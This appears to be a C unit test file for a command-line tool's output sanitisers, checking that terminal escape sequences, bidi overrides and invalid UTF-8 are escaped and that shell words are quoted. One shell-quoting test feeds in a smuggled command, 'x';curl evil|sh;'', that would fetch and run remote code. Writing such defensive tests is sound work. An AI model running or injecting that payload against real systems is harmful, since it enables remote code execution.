/* Nothing of a stranger's bytes reaches the terminal as an order. */
#include "unit/unit.h"

#include "base/mem.h"
#include "cli/safe_text.h"

static void texts(void **state)
{
    static const struct {
        struct str in, out;
    } cases[] = {
        { STR("plain \xc3\xbc \xe2\x82\xac \xf0\x9f\x9a\xaa \\n"),
          STR("plain \xc3\xbc \xe2\x82\xac \xf0\x9f\x9a\xaa \\n") },
        { STR("a\nb\tc\rd"), STR("a\\nb\\tc\\rd") },
        { STR("\x1b]0;owned\x07"), STR("\\e]0;owned\\x07") },
        { STR("\x00\x7f"), STR("\\x00\\x7f") },
        { STR("\xff\xc3"), STR("\\xff\\xc3") },
        { STR("\xc0\x80\xed\xa0\x80"), STR("\\xc0\\x80\\xed\\xa0\\x80") },
        { STR("\xc2\x9b"
              "31m"),
          STR("\\u{9b}31m") },
        { STR("\xe2\x80\xae"
              "cod"),
          STR("\\u{202e}cod") },
        { STR("\xf3\xa0\x81\x81"), STR("\\u{e0041}") },
        { STR(""), STR("") },
    };

    (void)state;
    for (size_t i = 0; i < COUNT_OF(cases); i++) {
        struct buf b = buf_init(1000);

        safe_text(cases[i].in, &b);
        if (!str_eq(buf_str(&b), cases[i].out))
            fail_msg("%zu: %.*s", i, STR_ARG(buf_str(&b)));
        buf_fini(&b);
    }
}

static void json_on_one_line(void **state)
{
    struct buf b = buf_init(1000);

    (void)state;
    safe_json(STR("{\n  \"a\" :1.50,\"b c\":[true , null],\t\"s\":\"x, \\\"y\\\": z\"}\n"), false,
              &b);
    assert_str(buf_str(&b), "{\"a\": 1.50, \"b c\": [true, null], \"s\": \"x, \\\"y\\\": z\"}");
    buf_clear(&b);
    safe_json(STR("{\"a\":[-1,\"s\",false]}"), true, &b);
    assert_str(buf_str(&b),
               "{" COLOUR_NAME "\"a\"" COLOUR_OFF ": [" COLOUR_NUMBER "-1" COLOUR_OFF
               ", " COLOUR_STRING "\"s\"" COLOUR_OFF ", " COLOUR_WORD "false" COLOUR_OFF "]}");
    buf_clear(&b);
    safe_json(STR("\"\xe2\x80\xae\x7f\""), false, &b); /* JSON allows these */
    assert_str(buf_str(&b), "\"\\u{202e}\\x7f\"");
    buf_clear(&b);
    safe_json(STR("\"broken \\"), false, &b); /* not JSON: still nothing read beyond it */
    assert_str(buf_str(&b), "\"broken \\");
    buf_fini(&b);
}

static void what_is_json(void **state)
{
    (void)state;
    assert_true(safe_is_json(STR(" {\"a\":[1]} ")));
    assert_true(safe_is_json(STR("21.5")));
    assert_true(safe_is_json(STR("\"x\"")));
    assert_false(safe_is_json(STR("")));
    assert_false(safe_is_json(STR("{} {}")));
    assert_false(safe_is_json(STR("on")));
    assert_false(safe_is_json(STR("\xff")));
}

static void words_of_a_shell(void **state)
{
    struct buf b = buf_init(1000);

    (void)state;
    assert_true(safe_word(STR("plant/+/t"), &b));
    buf_u8(&b, ' ');
    assert_true(safe_word(STR("x';curl evil|sh;'"), &b));
    buf_u8(&b, ' ');
    assert_true(safe_word(STR("'"), &b));
    buf_u8(&b, ' ');
    assert_true(safe_word(STR(""), &b));
    assert_str(buf_str(&b), "'plant/+/t' 'x'\\'';curl evil|sh;'\\''' ''\\''' ''");
    buf_clear(&b);
    assert_false(safe_word(STR("a\nb"), &b));
    assert_false(safe_word(STR("a\x1b[2J"), &b));
    assert_false(safe_word(STR("a\xe2\x80\xae"), &b));
    assert_false(safe_word(STR("a\xff"), &b));
    assert_int_equal(b.n, 0);
    buf_fini(&b);
}

RUN(TEST(texts), TEST(words_of_a_shell), TEST(json_on_one_line), TEST(what_is_json))
